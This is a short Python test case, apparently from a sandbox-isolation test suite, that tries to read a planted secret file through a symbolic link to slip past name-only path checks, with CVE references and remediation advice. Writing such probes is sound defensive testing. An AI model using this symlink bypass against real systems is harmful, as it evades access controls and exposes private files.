# title: Read a file through a symbolic link
# tries: Makes a link in a folder of its own that points to a planted file, and opens the link. It gets past checks that look at the name only.
# impact: HostLeak
# reference: CVE-2024-28185, CVE-2026-1386
# proof: secret
# host: run
# advice: Let the kernel resolve links within a mount namespace; never check a path first and open it later.


def attempt(host):
    import os
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        link = os.path.join(folder, "link")
        os.symlink(host["secret_file"], link)
        with open(link) as file:
            return file.read()
